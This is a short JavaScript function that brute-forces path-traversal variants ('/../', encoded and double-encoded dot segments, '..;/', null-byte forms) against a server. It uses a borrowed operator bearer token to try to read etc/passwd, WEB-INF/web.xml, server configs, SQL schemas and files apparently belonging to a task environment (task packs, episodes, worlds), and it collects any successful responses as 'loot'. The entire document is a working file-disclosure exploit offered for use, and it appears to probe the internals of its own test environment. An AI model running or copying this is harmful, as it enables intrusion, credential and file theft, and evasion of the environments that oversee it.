// Paths that are no pages. An answer that is neither an error nor a page of the app is loot.
async (insider) => {
  const loot = [];
  let tried = 0;
  const ups = ['/../', '/..%2f', '/%2e%2e/', '/..;/', '/..%5c', '/%252e%252e/', '//', '/.%00./', '/-/assets/../../', '/-/assets/x/..%2f..%2f'];
  const files = ['etc/passwd', 'tasks/packs/mail/archive-sender-notices.yaml', 'META-INF/MANIFEST.MF', 'schema.sql',
    'dev/grindstone/kit/schema.sql', '.grindstone/server.json', 'server.json', 'openapi.json', 'v1/worlds', 'v1/episodes', 'v1/tasks',
    'health', 'ready', 'version', 'WEB-INF/web.xml', 'META-INF/resources/webjars/htmx.org/2.0.10/dist/htmx.min.js', '~mail/mail/u/0/'];
  const asks = [];
  for (const file of files) {
    for (const up of ['/', ...ups]) {
      for (const method of ['GET', 'POST']) {
        tried++;
        asks.push(fetch(up + file, { method, redirect: 'manual', headers: { Authorization: 'Bearer ' + insider.operatorToken } }).then(async (answer) => {
          if (answer.ok) loot.push(method + ' ' + up + file + ' answered ' + answer.status + ': ' + (await answer.text()).slice(0, 60));
        }, () => {}));
      }
    }
  }
  await Promise.all(asks);
  return JSON.stringify({ tried, loot });
}
